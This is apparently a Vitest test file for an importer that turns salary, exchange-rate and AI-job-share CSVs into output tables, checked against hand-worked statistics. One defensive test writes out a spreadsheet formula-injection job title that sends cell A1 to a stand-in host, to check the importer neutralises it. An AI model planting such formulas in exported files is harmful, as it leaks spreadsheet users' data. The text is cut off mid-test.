/**
 * The importer end to end on hand-written fixtures (tests/fixtures/raw), whose answers were worked
 * out by hand in the comments below. Line numbers are those of tests/fixtures/raw/salaries.csv:
 *
 * - 2–3, 6, 24, 28–29: the stable panel's other title (Data Scientist, every year 2022–2025)
 * - 4–5: UK ML 2023 in pounds (£40k, £45k); 7–16: UK ML 2024 in pounds (£50k…£95k, mid level);
 *   17–18: a UK ML pair advertised in dollars ($120k/$80k → $100k); 19: UK ML $140k; 25: UK ML
 *   2025 £100k
 * - 20: a Polish ML listing in złoty (H.10 has no PLN rate: the index's own, 95,000 / 380,000)
 * - 21: French AI (EUR 50k), 22–23: a German AI pair (EUR 60k/80k → 70k)
 * - 26–27: an MLOps pair (broad ML only); 30: a Manager (a title the index added in 2025)
 * - 31–40: US AI 2025 $100k…$190k; 41–42 and 43–44: the same pair ($150k/$170k) twice: repeats
 *
 * and of tests/fixtures/raw/fx.csv (every month of each year the import needs, 2025 through August,
 * where the salary data ends): GBP 2022 and 2023 at 0.8 £/$ ($1.25), 2024 six months at 0.75 and
 * six at 0.8125 (mean 0.78125: $1.28), 2025 0.75, 0.76, 0.77 and five months at 0.76 (mean 0.76:
 * $1.3157895 to 8 significant figures); EUR 2022–2024 0.8 ($1.25), 2025 0.9 ($1.1111111); France
 * (pre-euro) ignored, and one Canadian month that no region needs.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cp, mkdtemp, readFile, readdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import {
	aiShareSchema,
	distributionSchema,
	fxSchema,
	gapsSchema,
	listingsSchema,
	salariesSchema,
	titlesSchema,
	type SalaryRow
} from '$lib/data/schema';
import { parseTable } from '$lib/data/validate';
import { IMPORTED_FILES } from '$lib/data/files';
import { runImport, type ImportSummary } from '../../../scripts/importer';

const FIXTURES = path.resolve('tests/fixtures');
const RAW_SALARIES = path.join(FIXTURES, 'raw/salaries.csv');
const RAW_AI = path.join(FIXTURES, 'raw/ai-share.csv');
const RAW_FX = path.join(FIXTURES, 'raw/fx.csv');

async function freshOut(): Promise<string> {
	const out = await mkdtemp(path.join(tmpdir(), 'import-'));
	await cp(path.join(FIXTURES, 'data'), out, { recursive: true });
	return out;
}

async function table<S extends Parameters<typeof parseTable>[2]>(
	dir: string,
	file: string,
	schema: S
) {
	return parseTable(await readFile(path.join(dir, file), 'utf8'), file, schema);
}

type Key = Pick<SalaryRow, 'role' | 'region' | 'period'> & Partial<SalaryRow>;

describe('runImport on the fixtures', () => {
	let out: string;
	let summary: ImportSummary;
	let salaries: SalaryRow[];
	/** A salaries.csv cell: strict titles, every listing, all levels unless said otherwise. */
	const cell = (key: Key) => {
		const { definition = 'strict', basis = 'all', level = 'all' } = key;
		const found = salaries.filter(
			(r) =>
				r.role === key.role &&
				r.region === key.region &&
				r.period === key.period &&
				r.definition === definition &&
				r.basis === basis &&
				r.level === level
		);
		expect(found, JSON.stringify(key)).toHaveLength(1);
		return found[0] as SalaryRow;
	};
	beforeAll(async () => {
		out = await freshOut();
		summary = await runImport({ salaries: RAW_SALARIES, aiShare: RAW_AI, fx: RAW_FX, out });
		salaries = await table(out, 'salaries.csv', salariesSchema);
	});

	it('pairs 43 rows into 6 range pairs and 31 single listings', () => {
		// pairs: 17–18, 22–23, 26–27, 28–29, 41–42, 43–44; the other 31 rows are listings of their own
		expect(summary.salaries).toMatchObject({ rows: 43, pairs: 6, singles: 31, listings: 37 });
		// role listings: all but 4 Data Scientist listings and the Manager
		expect(summary.salaries.roleListings).toBe(32);
	});

	it('counts repeats, and takes the median’s interval at the effective number of listings', () => {
		// US AI 2025: 100k…190k and the pair 150k/170k (midpoint 160k) twice, identical to the last
		// field: 12 listings, 11 distinct, Σmᵢ² = 10 + 2² = 14, n_eff = 144 / 14 = 10.29.
		// Sorted: 100 110 120 130 140 150 160 160 160 170 180 190 (thousand).
		// p25 at h = 11 × 0.25 = 2.75: 120 + 0.75 × 10; median at 5.5: (150 + 160) / 2; p75 at 8.25.
		// m = 10: P(B ≤ 1) = 11/1024 ≤ 2.5% < P(B ≤ 2) = 56/1024, so ranks 2 and 9, at levels 1/9 and
		// 8/9: h = 11/9 → 110 + 2/9 × 10 and h = 88/9 → 170 + 7/9 × 10 (12 distinct listings would give
		// the 3rd and 10th values, 120k–170k: the repeats widen the interval).
		// The distinct listings' median: 100…190 and one 160 → the 6th of 11, 150k.
		const expected = {
			listings: 12,
			distinct: 11,
			n_eff: 10.29,
			currency: 'USD',
			p25: 127500,
			median: 155000,
			p75: 162500,
			ci_low: 112222.22,
			ci_high: 177777.78,
			confidence: 'low',
			median_distinct: 150000,
			median_index_usd: 155000,
			country_mix: null
		};
		expect(cell({ role: 'ai_engineer', region: 'us', period: 2025, level: 'MI' })).toMatchObject(
			expected
		);
		// every one of them is advertised in dollars: as advertised, the same figures (but the
		// index's dollars, the first version's figure, which only the all basis gives)
		expect(cell({ role: 'ai_engineer', region: 'us', period: 2025, basis: 'local' })).toMatchObject(
			{
				...expected,
				median_index_usd: null
			}
		);
	});

	it('gives each shown cell’s pay at every 5th percentile, and withheld cells none', async () => {
		const rows = await table(out, 'distribution.csv', distributionSchema);
		// a row per shown cell of salaries.csv, in its order
		const shown = salaries.filter((r) => r.confidence !== 'withheld');
		const key = (r: {
			role: string;
			definition: string;
			basis: string;
			region: string;
			period: unknown;
			level: string;
		}) => `${r.role} ${r.definition} ${r.basis} ${r.region} ${r.period} ${r.level}`;
		expect(rows.map(key)).toEqual(shown.map(key));
		// US AI 2025 MI, the 12 listings above (thousand): 100 110 120 130 140 150 160 160 160 170 180
		// 190. R-7 at p: h = 11p, between the ⌊h⌋th and the next (0-based). p05: h 0.55 → 100 + 0.55 ×
		// 10; p10: 1.1 → 110 + 0.1 × 10; p15: 1.65 → 116.5; p20: 2.2 → 122; p25 2.75 → 127.5; p30 3.3 →
		// 133; p35 3.85 → 138.5; p40 4.4 → 144; p45 4.95 → 149.5; p50 5.5 → 155; p55–p70 (h 6.05 to
		// 7.7) between 160 and 160; p75 8.25 → 162.5; p80 8.8 → 168; p85 9.35 → 173.5; p90 9.9 → 179;
		// p95 10.45 → 184.5.
		const us = rows.find((r) => key(r) === 'ai_engineer strict all us 2025 MI');
		expect(us).toEqual({
			role: 'ai_engineer',
			definition: 'strict',
			basis: 'all',
			region: 'us',
			period: 2025,
			level: 'MI',
			currency: 'USD',
			p05: 105500,
			p10: 111000,
			p15: 116500,
			p20: 122000,
			p25: 127500,
			p30: 133000,
			p35: 138500,
			p40: 144000,
			p45: 149500,
			p50: 155000,
			p55: 160000,
			p60: 160000,
			p65: 160000,
			p70: 160000,
			p75: 162500,
			p80: 168000,
			p85: 173500,
			p90: 179000,
			p95: 184500
		});
	});

	it('gives pounds as advertised: only the listings paid in pounds, never converted', () => {
		// UK ML 2024 in pounds (lines 7–16): £50k…£95k, 10 listings. p25 at 2.25: 60 + 0.25 × 5;
		// median (70 + 75) / 2; p75 at 6.75: 80 + 0.75 × 5; m = 10: the 2nd and 9th values.
		expect(cell({ role: 'ml_engineer', region: 'gb', period: 2024, basis: 'local' })).toMatchObject(
			{
				listings: 10,
				distinct: 10,
				n_eff: 10,
				currency: 'GBP',
				p25: 61250,
				median: 72500,
				p75: 83750,
				ci_low: 55000,
				ci_high: 90000,
				confidence: 'low',
				// the first version's figure is of every listing: none as advertised
				median_index_usd: null
			}
		);
	});

	it('converts every listing at the Federal Reserve’s rate of its year', () => {
		// UK ML 2024, every listing: the 10 in pounds × 1.28 (64,000 … 121,600 by 6,400), the dollar
		// pair's midpoint 100,000 and 140,000. Sorted: 64000 70400 76800 83200 89600 96000 100000
		// 102400 108800 115200 121600 140000. p25 at 2.75: 76,800 + 0.75 × 6,400; median
		// (96,000 + 100,000) / 2; p75 at 8.25; m = 12: P(B ≤ 2) = 79/4096 ≤ 2.5% < P(B ≤ 3) = 299/4096,
		// so the 3rd and 10th values.
		expect(cell({ role: 'ml_engineer', region: 'gb', period: 2024 })).toMatchObject({
			listings: 12,
			distinct: 12,
			n_eff: 12,
			currency: 'USD',
			p25: 81600,
			median: 98000,
			p75: 110400,
			ci_low: 76800,
			ci_high: 115200,
			confidence: 'low',
			// at the index's own 1.25 $/£: 62,500 … 118,750, 100,000, 100,000 (the pair) and 140,000
			median_index_usd: 96875
		});
		// Global ML 2024 mid level: the UK's 10 in pounds and the Polish 380,000 zł at the index's
		// 0.25 $/zł (H.10 has no zloty) = 95,000, the 6th of 11: 64000 70400 76800 83200 89600 95000 …
		expect(
			cell({ role: 'ml_engineer', region: 'global', period: 2024, level: 'MI' })
		).toMatchObject({ listings: 11, median: 95000, country_mix: 'GB:10 PL:1' });
	});

	it('pools 2023–2025, each listing converted at its own year’s rate', () => {
		// in pounds: £40k, £45k (2023), £50k…£95k (2024), £100k (2025): 13 listings, median the 7th
		// (£70k), p25 the 4th, p75 the 10th; m = 13: P(B ≤ 2) = 92/8192 ≤ 2.5% < P(B ≤ 3) = 378/8192,
		// so the 3rd and 11th values
		expect(
			cell({ role: 'ml_engineer', region: 'gb', period: '2023-2025', basis: 'local' })
		).toMatchObject({
			listings: 13,
			n_eff: 13,
			currency: 'GBP',
			p25: 55000,
			median: 70000,
			p75: 85000,
			ci_low: 50000,
			ci_high: 90000
		});
		// every listing: 2023's at $1.25 (50,000 and 56,250), 2024's 12 as above, 2025's £100k at
		// $1.3157895 (131,578.95): 15 values, median the 8th (96,000), p25 at 3.5 (70,400 + 76,800) / 2,
		// p75 at 10.5 (108,800 + 115,200) / 2; m = 15: P(B ≤ 3) = 576/32768 ≤ 2.5% < P(B ≤ 4), so the
		// 4th and 12th values
		expect(cell({ role: 'ml_engineer', region: 'gb', period: '2023-2025' })).toMatchObject({
			listings: 15,
			p25: 73600,
			median: 96000,
			p75: 112000,
			ci_low: 70400,
			ci_high: 115200,
			// at the index's rates: 48,000, 54,000, 62,500…118,750, 100,000 ×2, 125,000, 140,000: the 8th
			median_index_usd: 93750
		});
	});

	it('withholds pay under 10 effective listings but keeps the counts, and mixes countries', () => {
		// Germany and France, AI 2024: the French single and the German pair
		expect(cell({ role: 'ai_engineer', region: 'eu', period: 2024 })).toMatchObject({
			listings: 2,
			distinct: 2,
			n_eff: 2,
			median: null,
			ci_low: null,
			confidence: 'withheld',
			median_distinct: null,
			country_mix: 'DE:1 FR:1'
		});
		// Global as advertised is in dollars: only the UK's two dollar listings of 2024
		expect(
			cell({ role: 'ml_engineer', region: 'global', period: 2024, basis: 'local' })
		).toMatchObject({ listings: 2, currency: 'USD', country_mix: 'GB:2' });
		// the US has no UK listings: an empty cell is written, not skipped
		expect(cell({ role: 'ml_engineer', region: 'us', period: 2024 })).toMatchObject({
			listings: 0,
			distinct: 0,
			n_eff: 0,
			confidence: 'withheld'
		});
	});

	it('keeps broad-only titles out of the strict definition', () => {
		// US ML 2025: the MLOps pair only
		expect(cell({ role: 'ml_engineer', region: 'us', period: 2025 }).listings).toBe(0);
		expect(
			cell({ role: 'ml_engineer', region: 'us', period: 2025, definition: 'broad' }).listings
		).toBe(1);
	});

	it('writes one row per role × definition × basis × region × period × level', () => {
		// 2 roles × 2 definitions × 2 bases × 5 regions × (2022…2025 and 2023-2025) × (all + 4 levels)
		expect(salaries).toHaveLength(2 * 2 * 2 * 5 * 5 * 5);
		expect(summary.cells).toBe(1000);
		// no cell reaches 30 effective listings
		expect(summary.withheld + summary.lowConfidence).toBe(1000);
	});

	it('measures demand against the stable panel of titles present every year 2022–2025', async () => {
		const rows = await table(out, 'listings.csv', listingsSchema);
		const get = (role: string, region: string, period: number | string, definition = 'strict') =>
			rows.find(
				(r) =>
					r.role === role &&
					r.definition === definition &&
					r.region === region &&
					r.period === period &&
					r.level === 'all'
			);
		// in the panel: Machine Learning Engineer and Data Scientist (in every year 2022–2025); not
		// AI Engineer (2024–), MLOps Engineer or Manager (2025). Global 2025: 16 listings in all —
		// ML 1 (line 25), MLOps 1, Data Scientist 1, Manager 1, AI 12.
		expect(get('ml_engineer', 'global', 2025)).toEqual({
			role: 'ml_engineer',
			definition: 'strict',
			region: 'global',
			period: 2025,
			level: 'all',
			listings: 1,
			panel_listings: 2,
			share_of_panel_pct: 50,
			all_listings: 16
		});
		// AI's own titles join the panel for AI: 12 of 1 + 1 + 12
		expect(get('ai_engineer', 'global', 2025)).toMatchObject({
			listings: 12,
			panel_listings: 14,
			share_of_panel_pct: 85.7143
		});
		// broad ML: ML 1 + MLOps 1, of the panel 2 and MLOps
		expect(get('ml_engineer', 'global', 2025, 'broad')).toMatchObject({
			listings: 2,
			panel_listings: 3,
			share_of_panel_pct: 66.6667
		});
		// pooled AI: 2 (2024) + 12 (2025) of ML 2 + 13 + 1, Data Scientist 3 and AI 14
		expect(get('ai_engineer', 'global', '2023-2025')).toMatchObject({
			listings: 14,
			panel_listings: 33,
			share_of_panel_pct: 42.4242,
			all_listings: 35
		});
		// no listings at all in the US in 2023 but the Data Scientist: a share of 0, not a gap
		expect(get('ai_engineer', 'us', 2023)).toMatchObject({
			listings: 0,
			panel_listings: 1,
			share_of_panel_pct: 0
		});
		expect(get('ai_engineer', 'gb', 2022)).toMatchObject({
			panel_listings: 0,
			share_of_panel_pct: null
		});
	});

	it('counts listings per title and year, every title, and marks the panel', async () => {
		const rows = await table(out, 'titles.csv', titlesSchema);
		const years = (title: string) =>
			rows.filter((r) => r.job_title === title).map((r) => [r.year, r.listings]);
		// mapped titles in roles.csv order, then the others by listings
		expect([...new Set(rows.map((r) => r.job_title))]).toEqual([
			'Machine Learning Engineer',
			'MLOps Engineer',
			'AI Engineer',
			'Artificial Intelligence Engineer',
			'Data Scientist',
			'Manager'
		]);
		expect(years('Machine Learning Engineer')).toEqual([
			[2022, 1],
			[2023, 2],
			[2024, 13],
			[2025, 1],
			['all', 17]
		]);
		expect(years('AI Engineer')).toEqual([
			[2022, 0],
			[2023, 0],
			[2024, 1],
			[2025, 12],
			['all', 13]
		]);
		const one = (title: string) => rows.find((r) => r.job_title === title && r.year === 'all');
		expect(one('Data Scientist')).toMatchObject({ role: null, listings: 4, panel: 'yes' });
		expect(one('Manager')).toMatchObject({ role: null, listings: 1, panel: 'no' });
		expect(one('MLOps Engineer')).toMatchObject({
			role: 'ml_engineer',
			definition: 'broad',
			panel: 'no'
		});
		expect(rows).toHaveLength(6 * 5);
	});

	it('takes the market rate from H.10 and keeps the index’s own beside it', async () => {
		const rows = await table(out, 'fx.csv', fxSchema);
		const row = (currency: string, year: number, usd: number, index: number | null, n: number) => ({
			currency,
			year,
			usd_per_unit: usd,
			source: 'federal_reserve_h10',
			index_usd_per_unit: index,
			rows: n
		});
		expect(rows).toEqual([
			// EUR 2022–2023: no rows, but the pages offer euros in every year. 2025: 1.1 and 1.08 → 1.09
			row('EUR', 2022, 1.25, null, 0),
			row('EUR', 2023, 1.25, null, 0),
			row('EUR', 2024, 1.25, 1.1, 3),
			row('EUR', 2025, 1.1111111, 1.09, 2),
			// GBP 2022 has no rows, but the pages offer pounds in every year
			row('GBP', 2022, 1.25, null, 0),
			row('GBP', 2023, 1.25, 1.2, 2),
			row('GBP', 2024, 1.28, 1.25, 10),
			row('GBP', 2025, 1.3157895, 1.25, 1),
			// H.10 has no zloty: the index's own rate, marked as such
			{ ...row('PLN', 2024, 0.25, 0.25, 1), source: 'salary_index' }
		]);
		expect(summary.fx).toMatchObject({
			rows: 90,
			firstMonth: '2001-01-01',
			lastMonth: '2025-08-01',
			fromIndex: ['PLN 2024']
		});
	});

	it('writes the gap for every pair of shown cells, with its log-scale interval and verdict', async () => {
		const gaps = await table(out, 'gaps.csv', gapsSchema);
		// the pairs: every ML cell shown with an AI cell shown of the same definition, basis, region,
		// period and level (in the fixture, only Global's pooled window, at all and mid levels)
		const key = (r: Pick<SalaryRow, 'definition' | 'basis' | 'region' | 'period' | 'level'>) =>
			`${r.definition} ${r.basis} ${r.region} ${r.period} ${r.level}`;
		const shownOf = (role: SalaryRow['role']) =>
			new Set(salaries.filter((r) => r.role === role && r.median !== null).map(key));
		const ai = shownOf('ai_engineer');
		expect(gaps.map(key)).toEqual([...shownOf('ml_engineer')].filter((k) => ai.has(k)));
		expect(gaps.map(key)).toEqual([
			'strict all global 2023-2025 all',
			'strict all global 2023-2025 MI',
			'broad all global 2023-2025 all',
			'broad all global 2023-2025 MI'
		]);
		// strict, all levels: ML $95,500 (CI 70,400–115,200), AI $145,000 (103,636.36–166,363.64);
		// SE_ml = ln(115,200 / 70,400) / 3.919928 = 0.1256341, SE_ai = ln(166,363.64 / 103,636.36) /
		// 3.919928 = 0.1207389; half-width 1.959964 × 0.1742464 = 0.3415166 around ln(145,000 / 95,500)
		// = 0.4176075: exp(0.0760909) − 1 = +7.9%, exp(0.7591241) − 1 = +113.6%; the gap +51.8%
		expect(gaps[0]).toEqual({
			definition: 'strict',
			basis: 'all',
			region: 'global',
			period: '2023-2025',
			level: 'all',
			currency: 'USD',
			ml_median: 95500,
			ai_median: 145000,
			gap_pct: 51.8,
			gap_low_pct: 7.9,
			gap_high_pct: 113.6,
			verdict: 'ai_higher'
		});
	});

	it('writes monthly AI shares per region, and each country’s line in a region of several', async () => {
		const rows = await table(out, 'ai-share.csv', aiShareSchema);
		// means of the days: US Jan (2 + 4) / 2, Feb (3 + 5) / 2; GB Jan (4 + 6) / 2, Feb 5; DE Feb 7.
		// Global: the months all three report (February), the unweighted mean (4 + 5 + 7) / 3.
		expect(
			rows.map(
				(r) => `${r.region} ${r.series} ${r.countries} ${r.month} ${r.ai_share_pct} ${r.days}`
			)
		).toEqual([
			'global region DE GB US 2025-02 5.3333 1',
			'global country DE 2025-02 7 1',
			'global country GB 2025-02 5 1',
			'global country US 2025-02 4 2',
			'us region US 2025-01 3 2',
			'us region US 2025-02 4 2',
			'gb region GB 2025-01 5 2',
			'gb region GB 2025-02 5 1',
			// France is not in the file: Germany alone, no country lines
			'eu region DE 2025-02 7 1',
			'de region DE 2025-02 7 1'
		]);
	});

	it('records provenance with every raw file’s checksum', async () => {
		const sources = JSON.parse(await readFile(path.join(out, 'sources.json'), 'utf8'));
		const of = (file: string) => sources.snapshots.find((s: { file: string }) => s.file === file);
		expect(of('salaries.csv')).toMatchObject({
			licence: 'CC0 1.0',
			raw_rows: 43,
			raw_listings: 37,
			raw_range_pairs: 6,
			raw_single_rows: 31,
			command: 'npm run data:import'
		});
		// the SHA-256 of each whole raw file (taken from the chunks as they are read)
		const sha256 = async (file: string) =>
			createHash('sha256')
				.update(await readFile(file))
				.digest('hex');
		expect(of('salaries.csv').raw_sha256).toBe(await sha256(RAW_SALARIES));
		expect(of('fx.csv')).toMatchObject({ raw_rows: 90 });
		expect(of('fx.csv').raw_sha256).toBe(await sha256(RAW_FX));
		expect(of('ai-share.csv').raw_sha256).toBe(await sha256(RAW_AI));
	});

	it('gives byte-identical files when run twice', async () => {
		const again = await freshOut();
		await runImport({ salaries: RAW_SALARIES, aiShare: RAW_AI, fx: RAW_FX, out: again });
		// every file it writes without Indeed's postings and wage files (importer.indeed.test.ts has those)
		const written = Object.keys(summary.written);
		expect(written).toEqual(
			IMPORTED_FILES.filter((f) => f !== 'postings.csv' && f !== 'wage-growth.csv')
		);
		for (const file of written)
			expect(await readFile(path.join(again, file)), file).toEqual(
				await readFile(path.join(out, file))
			);
	});
});

describe('runImport on a job title a spreadsheet would run as a formula', () => {
	it('writes it guarded into titles.csv, and the snapshot reads back the very title', async () => {
		const title = '=HYPERLINK("http://example.invalid/?q="&A1,"Machine Learning Engineer")';
		const raw = (await readFile(RAW_SALARIES, 'utf8')).replace(
			'2025,SE,FT,Manager,',
			`2025,SE,FT,"${title.replaceAll('"', '""')}",`
		);
		expect(raw).toContain('HYPERLINK');
		const out = await freshOut();
		await writeFile(path.join(out, 'raw.csv'), raw);
		await runImport({ salaries: path.join(out, 'raw.csv'), aiShare: RAW_AI, fx: RAW_FX, out });
		const csv = await readFile(path.join(out, 'titles.csv'), 'utf8');
		expect(csv).toContain(`"'${title.replaceAll('"', '""')}",`);
		expect(csv.split('\n').some((line) => /^"?[=+\-@\t\r]/.test(line))).toBe(false);
		const rows = parseTable(csv, 'titles.csv', titlesSchema);
		expect(rows.find((r) => r.job_title === title && r.year === 'all')?.listings).toBe(1);
	});
});

describe('runImport and the pins of raw-sources.json', () => {
	const sha256 = async (file: string) =>
		createHash('sha256')
			.update(await readFile(file))
			.digest('hex');
	/** raw-sources.json entries for the fixtures; `fx` pins other bytes than the fixture's */
	async function pins(fxSha256?: string) {
		const pin = (id: string, file: string, sha: string) => ({
			id,
			repo: `owner/${id}`,
			path: path.basename(file),
			commit: id[0]?.repeat(40) ?? '',
			gzip: id === 'aijobs-salaries',
			git_blob: 'b'.repeat(40),
			sha256: sha
		});
		return [
			pin('aijobs-salaries', RAW_SALARIES, await sha256(RAW_SALARIES)),
			pin('indeed-ai-tracker', RAW_AI, await sha256(RAW_AI)),
			pin('fed-fx', RAW_FX, fxSha256 ?? (await sha256(RAW_FX)))
		];
	}
	const files = { salaries: RAW_SALARIES, aiShare: RAW_AI, fx: RAW_FX };

	it('refuses a default raw file that is not the pinned one, saying how to fix it, and writes nothing', async () => {
		const out = await freshOut();
		const error = await runImport({
			...files,
			out,
			pins: await pins('0'.repeat(64)),
			pinned: ['salaries', 'aiShare', 'fx']
		}).then(
			() => null,
			(e: Error) => e.message
		);
		expect(error).toBe(
			`${RAW_FX}: (file): not the file raw-sources.json pins for fed-fx (SHA-256 ${(await sha256(RAW_FX)).slice(0, 12)}…, pinned 000000000000…): run \`npm run data:fetch\` to restore it, or \`npm run data:fetch -- --latest\` to move the pin to the newest upstream file`
		);
		expect((await readdir(out)).sort()).toEqual(['regions.csv', 'roles.csv']);
	});

	it('names a missing default raw file and the command that fetches it, with no line number', async () => {
		const out = await freshOut();
		const missing = path.join(out, '.cache/raw/fed-fx/monthly.csv');
		const error = await runImport({
			...files,
			fx: missing,
			out,
			pins: await pins(),
			pinned: ['fx']
		}).then(
			() => null,
			(e: Error) => e.message
		);
		expect(error).toBe(
			`${missing}: (file): missing: run \`npm run data:fetch\` to download the raw sources`
		);
	});

	it('records each pinned file’s origin from its pin, so sources.json says what raw-sources.json says', async () => {
		const out = await freshOut();
		const manifest = await pins();
		await runImport({ ...files, out, pins: manifest, pinned: ['salaries', 'aiShare', 'fx'] });
		const sources = JSON.parse(await readFile(path.join(out, 'sources.json'), 'utf8'));
		const of = (file: string) => sources.snapshots.find((s: { file: string }) => s.file === file);
		expect(of('salaries.csv')).toMatchObject({
			copied_from: `github.com/owner/aijobs-salaries salaries.csv at commit ${'a'.repeat(40)} (gunzipped, unchanged)`,
			raw_blob: 'b'.repeat(40),
			raw_repo: 'owner/aijobs-salaries',
			raw_commit: 'a'.repeat(40)
		});
		expect(of('fx.csv')).toMatchObject({
			copied_from: `github.com/owner/fed-fx fx.csv at commit ${'f'.repeat(40)} (unchanged)`,
			raw_commit: 'f'.repeat(40)
		});
	});

	it('takes a file named on the command line, validated as usual, and records it as unpinned', async () => {
		const out = await freshOut();
		const summary = await runImport({ ...files, out, pins: await pins('0'.repeat(64)) });
		expect(summary.unpinned).toEqual([RAW_FX]);
		const sources = JSON.parse(await readFile(path.join(out, 'sources.json'), 'utf8'));
		const fx = sources.snapshots.find((s: { file: string }) => s.file === 'fx.csv');
		expect(fx).toMatchObject({
			copied_from:
				'not pinned: fx.csv was named on the command line and is not the file raw-sources.json pins',
			raw_blob: null,
			raw_sha256: await sha256(RAW_FX)
		});
		expect(fx.raw_commit).toBeUndefined();
	});
});

describe('runImport on exchange rates that are well-formed but wrong', () => {
	// 20 UK listings advertised in pounds in 2024, converted by the index at $1.25 (remote ratios
	// alternate, so no two rows pair into one listing): enough for the index's rate to be a yardstick
	const salaries = [
		'work_year,experience_level,employment_type,job_title,salary,salary_currency,salary_in_usd,employee_residence,remote_ratio,company_location,company_size',
		...Array.from(
			{ length: 20 },
			(_, i) =>
				`2024,SE,FT,Machine Learning Engineer,${80000 + 1000 * i},GBP,${1.25 * (80000 + 1000 * i)},GB,${i % 2 ? 100 : 0},GB,M`
		)
	].join('\n');
	/** H.10 for 2024: euros, then pounds (the file's order), 0.8 of each per dollar ($1.25) */
	const months = (series: string, value: (month: number) => string = () => '0.8') =>
		Array.from(
			{ length: 12 },
			(_, i) => `2024-${String(i + 1).padStart(2, '0')}-01,${series},${value(i + 1)}`
		);
	const header = 'Date,Country,Exchange rate';
	const good = [header, ...months('Euro'), ...months('United Kingdom')];
	// line numbers: the header is 1, euros 2–13, pounds 14–25 (March on line 16)
	const pounds = (value: (m: number) => string) => [
		header,
		...months('Euro'),
		...months('United Kingdom', value)
	];

	async function importing(fxLines: string[]) {
		const out = await freshOut();
		for (const f of IMPORTED_FILES) await writeFile(path.join(out, f), `previous ${f}\n`);
		await writeFile(path.join(out, 'raw.csv'), `${salaries}\n`);
		await writeFile(path.join(out, 'monthly.csv'), fxLines.join('\n'));
		const error = await runImport({
			salaries: path.join(out, 'raw.csv'),
			aiShare: RAW_AI,
			fx: path.join(out, 'monthly.csv'),
			out
		}).then(
			() => null,
			(e: Error) => e.message
		);
		const kept = await Promise.all(
			IMPORTED_FILES.map(
				async (f) => (await readFile(path.join(out, f), 'utf8')) === `previous ${f}\n`
			)
		);
		return { error, kept: kept.every(Boolean) };
	}

	it('imports the good file', async () => {
		expect(await importing([...good, ''])).toEqual({ error: null, kept: false });
	});

	const cases: [string, string[], string][] = [
		[
			'a rate typed as 7744 for 0.7744',
			pounds((m) => (m === 3 ? '7744' : '0.8')),
			"monthly.csv:16: Exchange rate: GBP 2024-03 is 7744 GBP per USD, so 2024's market rate is 0.001548 USD per GBP, 100% below the salary index's own 1.25 (20 listings), expected within 20%"
		],
		[
			'the pound given as dollars per pound',
			pounds(() => '1.25'),
			"monthly.csv:14: Exchange rate: GBP 2024-01 is 1.25 GBP per USD, so 2024's market rate is 0.8 USD per GBP, 36% below the salary index's own 1.25"
		],
		[
			'1e300',
			pounds((m) => (m === 3 ? '1e300' : '0.8')),
			'monthly.csv:16: Exchange rate: GBP 2024-03 is 1e+300 GBP per USD'
		],
		[
			'the same month twice, with the same value',
			[...good, '2024-03-01,United Kingdom,0.8'],
			'monthly.csv:26: Date: United Kingdom 2024-03 appears again (first on line 16), expected one rate per currency and month'
		],
		[
			'the same month twice, with another value',
			[...good.slice(0, 17), '2024-03-01,United Kingdom,0.7', ...good.slice(17)],
			'monthly.csv:18: Date: United Kingdom 2024-03 appears again (first on line 16)'
		],
		[
			'pounds missing from April on',
			good.slice(0, 16),
			'monthly.csv: GBP 2024-04: no rate in the "United Kingdom" series, expected every month of 2024 through 2024-12'
		],
		[
			'the file cut at a line break, before the pounds',
			good.slice(0, 13),
			'monthly.csv: GBP 2024-01: no rate in the "United Kingdom" series'
		],
		[
			'the file cut inside a line',
			[...good.slice(0, 17), '2024-05-01,United Kingdom,0.7'],
			'monthly.csv: GBP 2024-06: no rate'
		]
	];

	it.each(cases)(
		'refuses %s, naming the line or month and both rates, and writes nothing',
		async (_, lines, message) => {
			const result = await importing(lines);
			expect(result.error).toContain(message);
			expect(result.error?.split('\n')).toHaveLength(1);
			expect(result.kept).toBe(true);
		}
	);
});

describe('runImport on bad input', () => {
	const header =
		'work_year,experience_level,employment_type,job_title,salary,salary_currency,salary_in_usd,employee_residence,remote_ratio,company_location,company_size';
	const good = '2024,SE,FT,AI Engineer,100,USD,100,US,0,US,M';

	async function importing(content: string, which: 'salaries' | 'fx' | 'aiShare' = 'salaries') {
		const out = await freshOut();
		await writeFile(path.join(out, 'salaries.csv'), 'previous snapshot\n');
		const raw = path.join(out, 'bad.csv');
		await writeFile(raw, content);
		const files = {
			salaries: which === 'salaries' ? raw : RAW_SALARIES,
			fx: which === 'fx' ? raw : RAW_FX,
			aiShare: which === 'aiShare' ? raw : RAW_AI
		};
		const error = await runImport({ ...files, out }).then(
			() => null,
			(e: Error) => e
		);
		return {
			message: error?.message,
			files: (await readdir(out)).sort(),
			kept: await readFile(path.join(out, 'salaries.csv'), 'utf8')
		};
	}

	const cases: [string, 'salaries' | 'fx' | 'aiShare', string, string][] = [
		[
			'an empty file',
			'salaries',
			'',
			'bad.csv:1: (file): the file is empty, expected a header row'
		],
		[
			'a missing column',
			'salaries',
			header.replace(',company_size', '') + '\n',
			'bad.csv:1: company_size: missing column, expected the header'
		],
		[
			'a non-numeric salary',
			'salaries',
			`${header}\n${good}\n${good.replace(',100,USD', ',abc,USD')}\n`,
			'bad.csv:3: salary: "abc" is not a number, expected a positive yearly amount in salary_currency'
		],
		[
			'an unknown currency',
			'salaries',
			`${header}\n${good.replace('USD', 'XXY')}\n`,
			'bad.csv:2: salary_currency: "XXY" is not a known code, expected an ISO 4217 currency code such as USD'
		],
		[
			'an unknown country code',
			'salaries',
			`${header}\n${good.replace(',US,M', ',UK,M')}\n`,
			'bad.csv:2: company_location: "UK" is not a known code, expected an ISO 3166-1 alpha-2 country code such as GB'
		],
		[
			'a year out of range',
			'salaries',
			`${header}\n${good.replace('2024', '1999')}\n`,
			'bad.csv:2: work_year: 1999 is below 2020, expected a whole number from 2020 to 2030'
		],
		[
			'a truncated last line',
			'salaries',
			`${header}\n${good}\n2024,SE,FT,AI Eng`,
			'bad.csv:3: salary: the row has 4 fields, expected 11'
		],
		[
			'an exchange rate that is not a number',
			'fx',
			'Date,Country,Exchange rate\n2024-01-01,United Kingdom,0.79\n2024-02-01,United Kingdom,ND\n',
			'bad.csv:3: Exchange rate: "ND" is not a number'
		],
		[
			'an exchange-rate month that is not the first of a month',
			'fx',
			'Date,Country,Exchange rate\n2024-01-15,United Kingdom,0.79\n',
